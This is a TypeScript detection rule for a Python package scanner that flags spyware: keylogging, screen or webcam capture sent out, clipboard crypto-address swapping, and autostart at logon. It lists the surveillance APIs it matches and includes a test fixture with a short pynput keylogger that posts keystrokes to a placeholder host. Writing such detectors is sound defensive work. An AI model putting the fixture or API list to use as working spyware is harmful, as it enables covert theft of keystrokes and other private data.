import { defineRule } from '../types.js';
import type { PyFile, PyPackage, PyReport } from '../../analysis/python/model.js';
import type { CallFact } from '../../analysis/python/facts.js';
import { autostartPlacement } from './persistence.js';
import { short, triggerOf } from '../../analysis/python/model.js';
import { when } from './util.js';
import { HOSTILE_CLASSES } from '../../analysis/python/values.js';

const KEYLOG_RE = /^(?:pynput\.keyboard\.Listener|keyboard\.(?:on_press|on_release|hook|read_key|record)|win32api\.GetAsyncKeyState|ctypes\.windll\.user32\.(?:GetAsyncKeyState|SetWindowsHookExA|SetWindowsHookExW)|pyxhook\.HookManager)$/;
const SCREEN_RE = /^(?:PIL\.ImageGrab\.grab|ImageGrab\.grab|pyautogui\.screenshot|mss\.mss|pyscreenshot\.grab|cv2\.VideoCapture)$/;
const CLIP_RE = /^(?:pyperclip\.(?:paste|copy)|clipboard\.(?:paste|copy)|win32clipboard\.(?:GetClipboardData|SetClipboardText|SetClipboardData))$/;
const ADDRESS_RE = /\^?\(?(?:bc1|\[13\]|0x\[a-fA-F0-9\]\{40\}|T\[A-Za-z1-9\]\{33\}|4\[0-9AB\])/;

function firstCall(pkg: PyPackage, re: RegExp): { file: PyFile; call: CallFact } | undefined {
  for (const file of pkg.files) {
    const call = file.facts.calls.find((c) => re.test(c.name));
    if (call !== undefined) return { file, call };
  }
  return undefined;
}

export const spyware = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/spyware',
    kind: 'threat',
    category: 'credential-access',
    severity: 'high',
    confidence: 'medium',
    ecosystems: ['pypi'],
    description: 'Keylogging, screenshots or webcam capture sent over the network, or clipboard crypto-address swapping.',
    details: 'Critical wherever it runs when the capture goes to a messenger, drop service, bare IP or a mailbox the code logs into, for clipboard address swapping, and for a package that records keystrokes, captures the screen, webcam or clipboard and installs itself to start at logon; keylogging next to other network use is high.',
    examples: {
      positive: [
        {
          files: {
            'pkg/k.py': "from pynput import keyboard\nimport requests\ndef on(k):\n    requests.post('https://k.invalid/', data=str(k))\nkeyboard.Listener(on_press=on).start()\n",
          },
        },
      ],
      negative: [{ files: { 'pkg/shot.py': "from PIL import ImageGrab\ndef save(path):\n    ImageGrab.grab().save(path)\n" } }],
    },
  },
  check(pkg, report) {
    // A surveillance kit: keystrokes recorded, the screen, webcam or clipboard captured too, and the
    // package installs itself to start at logon. Whether or not it sends anything, that is stalkerware.
    const keylog = firstCall(pkg, KEYLOG_RE);
    const capture = firstCall(pkg, SCREEN_RE) ?? firstCall(pkg, CLIP_RE);
    let autostart: { path: string } | undefined;
    if (keylog !== undefined && capture !== undefined) for (const f of pkg.files) autostart ??= autostartPlacement(f);
    if (keylog !== undefined && capture !== undefined && autostart !== undefined) {
      const trigger = triggerOf(keylog.file, keylog.call);
      report({
        path: keylog.file.path,
        line: keylog.call.line,
        col: keylog.call.col,
        trigger,
        severity: 'critical',
        confidence: 'high',
        message: `Spyware behaviour: records keystrokes (${keylog.call.name}), captures ${capture.call.name} and installs itself to start at logon (${short(autostart.path, 80)}) ${when(trigger)}.`,
      });
      return;
    }
    for (const file of pkg.files) {
      const hasSink = file.facts.sinks.some((s) => s.kind !== 'command' && s.dest?.cls !== 'local');
      // Where the capture goes decides how sure we are: a messenger, a drop service or a mailbox the code
      // logs into itself is a collector, not a feature.
      const toCollector = file.facts.sinks.some((s) => s.kind === 'smtp' || (s.dest !== undefined && HOSTILE_CLASSES.has(s.dest.cls)));
      for (const c of file.facts.calls) {
        let what: string | undefined;
        let decisive = false;
        if (KEYLOG_RE.test(c.name) && hasSink) {
          what = toCollector ? 'records keystrokes and mails or posts them to a fixed collector' : 'records keystrokes and uses the network';
          decisive = toCollector;
        } else if (SCREEN_RE.test(c.name) && hasSink && file.facts.sinks.some((s) => s.dest !== undefined && HOSTILE_CLASSES.has(s.dest.cls))) {
          what = 'captures the screen/webcam and sends it to a messenger or drop service';
          decisive = true;
        } else if (CLIP_RE.test(c.name) && c.name.endsWith('copy') === false && ADDRESS_RE.test(file.text) && file.facts.calls.some((x) => /(?:pyperclip|clipboard)\.copy|SetClipboard/.test(x.name))) {
          what = 'watches the clipboard for crypto addresses and replaces them';
          decisive = true;
        }
        if (what === undefined) continue;
        const trigger = triggerOf(file, c);
        report({ path: file.path, line: c.line, col: c.col, trigger, ...(decisive ? { severity: 'critical', confidence: 'high' } : {}), message: `Spyware behaviour: ${what} (${c.name}) ${when(trigger)}.` });
        break;
      }
    }
  },
});
